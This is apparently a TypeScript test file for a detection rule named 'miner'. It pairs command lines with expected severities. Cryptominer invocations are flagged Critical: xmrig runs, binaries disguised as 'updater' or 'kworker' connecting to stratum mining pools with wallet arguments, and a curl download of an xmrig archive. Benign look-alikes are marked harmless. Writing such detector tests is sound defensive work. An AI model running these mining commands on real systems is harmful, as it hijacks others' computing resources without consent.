import { ruleTable } from "../../../testing/rule-table.ts";

ruleTable("miner", {
  steps: [
    ["da1-08", "Critical"],
    ["da1-02", "Medium"],
    ["da3-11", "Medium"],
  ],
  passes: [
    ["python", "-c"],
    ["make", ""],
    ["npm", "run build"],
    ["gcc", "-O2"],
  ],
  commands: [
    ["/opt/xmrig", "", "Critical"],
    ["/usr/bin/XMRig", "--config=c.json", "Critical"],
    ["/tmp/updater", "-o stratum+tcp://pool.example:3333 -u wallet", "Critical"],
    ["/tmp/updater", "--url stratum+ssl://pool.example:443", "Critical"],
    ["/usr/bin/kworker", "--donate-level 1 --coin monero", "Critical"],
    ["/usr/bin/x", "--algo=rx/0", "Critical"],
    ["/usr/bin/data-miner", "--table tickets", "none"],
    ["/usr/bin/grep", "-rn stratum docs", "none"],
    ["/usr/bin/curl", "https://api.example/coins?algo=all", "none"],
    ["/workspace/worker", "-o pool.hashvault.pro:443 -u w -p x", "Critical"],
    ["/workspace/worker", "-a rx/0 -o 203.0.113.9:3333", "Critical"],
    ["/usr/bin/xmrig-notls", "", "Critical"],
    ["/usr/bin/curl", "-L -o x.tgz https://x/xmrig-6.21.0-linux-static-x64.tar.gz", "High"],
    ["/workspace/worker", "-u redis://localhost:6379 -o out.json", "none"],
    ["/usr/bin/grep", "-rn randomx docs", "none"],
  ],
});
